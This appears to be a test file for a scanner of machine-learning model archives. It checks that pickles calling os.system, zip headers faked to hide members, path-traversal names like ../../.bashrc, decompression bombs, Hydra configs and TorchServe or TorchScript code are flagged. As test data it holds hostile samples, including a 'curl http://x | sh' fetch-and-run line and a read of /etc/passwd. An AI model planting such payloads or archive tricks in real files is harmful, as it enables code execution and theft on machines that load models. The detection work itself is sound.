import assert from "node:assert/strict";

import { bytes, calling, inspected, joined, told } from "./bytes.ts";
import { zipFile } from "./zipFile.ts";

const evil = bytes(calling("os", "system"));
const good = bytes("\x80\x02N.");

describe("inspect archives", () => {
  it("finds pickles in a PyTorch archive by what they are, not by their name", () => {
    for (const name of ["archive/data.pkl", "archive/readme.txt", "archive/data/0"]) {
      for (const deflate of [false, true]) {
        const report = inspected(zipFile([{ name: "archive/data.pkl", content: good }, { name, content: evil, deflate }].slice(name.endsWith("data.pkl") ? 1 : 0)), "model.pt");
        assert.equal(report.format, "torch");
        assert.match(told(report), /^dangerous at archive\/.*os\.system/);
      }
    }
    assert.equal(inspected(zipFile([{ name: "archive/data.pkl", content: good }, { name: "archive/data/0", content: bytes("\x80\x03\x01\x02") }]), "model.pt").verdict, "safe", "numbers that begin like a pickle");
  });

  it("reads what careless headers hide, and tells of them", () => {
    const lies: readonly (readonly [RegExp, Parameters<typeof zipFile>[0][number]])[] = [
      [/two names for this member/, { name: "data.pkl", localName: "datap.kl", content: evil }],
      [/says that this member is encrypted, but it is not/, { name: "data.pkl", flags: 1, content: evil }],
      [/checksum of this member is wrong/, { name: "data.pkl", crc: 7, content: evil }],
    ];
    for (const [doubt, member] of lies) {
      const report = inspected(zipFile([member]), "model.pt");
      assert.match(told(report), /^dangerous at data\.pkl.*os\.system/);
      assert.match(told(report), doubt);
    }
  });

  it("says that it cannot look into what is encrypted, 7z, rar or cut short", () => {
    assert.match(told(inspected(zipFile([{ name: "a.pkl", flags: 1, crc: 1, content: bytes("secret...") }]), "a.zip")), /^uninspected at a\.pkl: This member is encrypted/);
    assert.equal(inspected("7z\xbc\xaf\x27\x1c......", "model.pt").verdict, "uninspected");
    assert.equal(inspected("Rar!\x1a\x07.....", "model.pt").verdict, "uninspected");
    assert.equal(inspected(zipFile([{ name: "data.pkl", content: good }]).subarray(0, 40), "model.pt").verdict, "uninspected");
  });

  it("warns of members that lead out of the folder, of repeated names, and of bytes before the archive", () => {
    assert.match(told(inspected(zipFile([{ name: "../../.bashrc", content: bytes("x") }]), "a.zip")), /^dangerous .*leads out of the folder/);
    assert.match(told(inspected(zipFile([{ name: "a", content: good }, { name: "a", content: good }]), "a.zip")), /several members named `a`/);
    assert.equal(inspected(zipFile([{ name: "data.pkl", content: evil }], "GGUF not really............."), "a.gguf").verdict, "dangerous");
  });

  it("goes into archives in archives, but not for ever", () => {
    let nested = zipFile([{ name: "data.pkl", content: evil }]);
    assert.match(told(inspected(zipFile([{ name: "inner.zip", content: nested, deflate: true }]), "a.zip")), /^dangerous at inner\.zip, data\.pkl/);
    for (let depth = 0; depth < 10; depth++) nested = zipFile([{ name: "inner.zip", content: nested }]);
    assert.equal(inspected(nested, "a.zip").verdict, "uninspected");
  });

  it("unpacks a bomb only so far", () => {
    const bomb = zipFile([{ name: "data.pkl", content: joined(bytes("\x80\x04B\xff\xff\xff\x7f"), new Uint8Array(40_000_000)), deflate: true }]);
    const report = inspected(bomb, "model.pt");
    assert.equal(report.verdict, "uninspected", told(report));
  }).timeout(20_000);

  it("looks at members that no list names, and at what a header before the data says otherwise", () => {
    const whole = zipFile([{ name: "data.pkl", content: evil }]);
    const listed = Buffer.from(whole).lastIndexOf("PK\x01\x02");
    const cut = whole.subarray(0, Buffer.from(whole).lastIndexOf("PK\x05\x06"));
    assert.match(told(inspected(cut, "model.pt")), /^dangerous at data\.pkl.*os\.system/);
    assert.match(told(inspected(joined(whole.subarray(0, listed), zipFile([{ name: "data.pkl", content: good }])), "model.pt")), /^dangerous at data\.pkl.*os\.system/);
    const otherMethod = whole.slice();
    otherMethod[listed + 10] = 8;
    assert.match(told(inspected(otherMethod, "model.pt")), /^dangerous at data\.pkl.*os\.system/);
    assert.match(told(inspected(joined(zipFile([{ name: "data.pkl", content: good }]), evil), "model.pt")), /^dangerous .*Behind its end/);
  });

  it("reads tar archives without the mark of newer writers", () => {
    const header = new Uint8Array(512).fill(0);
    header.set(bytes("pickle"));
    header.set(bytes(`${evil.length.toString(8).padStart(11, "0")}\0`), 124);
    header.set(bytes("        "), 148);
    header.set(bytes(`${header.reduce((sum, byte) => sum + byte, 0).toString(8).padStart(6, "0")}\0 `), 148);
    assert.match(told(inspected(joined(header, evil, new Uint8Array(1024)), "model.pt")), /^dangerous at pickle.*os\.system/);
  });

  it("reads tar archives, as NeMo writes them", () => {
    const tar = (name: string, content: Uint8Array): Uint8Array => {
      const header = new Uint8Array(512);
      header.set(bytes(name));
      header.set(bytes(content.length.toString(8).padStart(11, "0")), 124);
      header.set(bytes("0"), 156);
      header.set(bytes("ustar\x0000"), 257);
      return joined(header, content, new Uint8Array(512 - (content.length % 512)));
    };
    const config = bytes("model:\n  _target_: os.system\n");
    assert.match(told(inspected(joined(tar("model_config.yaml", config), new Uint8Array(1024)), "a.nemo")), /^dangerous at model_config\.yaml.*Hydra would call `os\.system`/);
    assert.match(told(inspected(joined(tar("weights.ckpt", evil), new Uint8Array(1024)), "a.nemo")), /^dangerous at weights\.ckpt/);
    assert.match(told(inspected(joined(tar("../x", good), new Uint8Array(1024)), "a.tar")), /outside of the folder/);
    assert.equal(inspected(tar("weights.ckpt", evil).subarray(0, 520), "a.tar").verdict, "uninspected");
  });

  it("tells of Python code in an archive by what runs it", () => {
    const archive = (members: Readonly<Record<string, string>>): string => told(inspected(zipFile(Object.entries(members).map(([name, content]) => ({ name, content: bytes(content) }))), "model.bin"));
    assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "import os" }), /^suspicious at handler\.py: TorchServe runs this/);
    assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "os.system('curl http://x | sh')" }), /^dangerous at handler\.py/);
    assert.match(archive({ "MAR-INF/MANIFEST.json": "{}", "handler.py": "os.system('pip install timm')" }), /^suspicious at handler\.py/);
    assert.match(archive({ "m/data.pkl": "\x80\x02N.", "m/net.py": "import os" }), /^suspicious at m\/net\.py: A PyTorch package/);
    assert.match(archive({ "m/.data/extern_modules": "os", "m/model.pkl": "\x80\x02N.", "m/net.py": "import os\nos.system('id')" }), /^dangerous at m\/net\.py/);
    const skops = (module: string): string => archive({ "schema.json": JSON.stringify({ __module__: module, __class__: "Thing", __loader__: "ObjectNode", content: {} }) });
    assert.match(skops("somebody.code"), /^suspicious .*`skops\.io\.load` refuses it/);
    assert.match(skops("lightgbm.inner"), /^(info .*`skops\.io\.load` refuses it.*)?$/);
    const script = (line: string): string => archive({ "m/data.pkl": "\x80\x02N.", "m/code/__torch__.py": `def forward(self, x):\n  return ${line}\n` });
    assert.equal(script("torch.add(ops.quantized.linear(x), ops.torchvision.nms(x))"), "");
    assert.match(script('torch.from_file("/etc/passwd")'), /^dangerous .*`torch\.from_file`/);
    assert.match(script("ops.my_library.run(x)"), /^suspicious .*native code/);
    assert.match(archive({ "a.py": "x" }), /^info at a\.py/);
  });
});
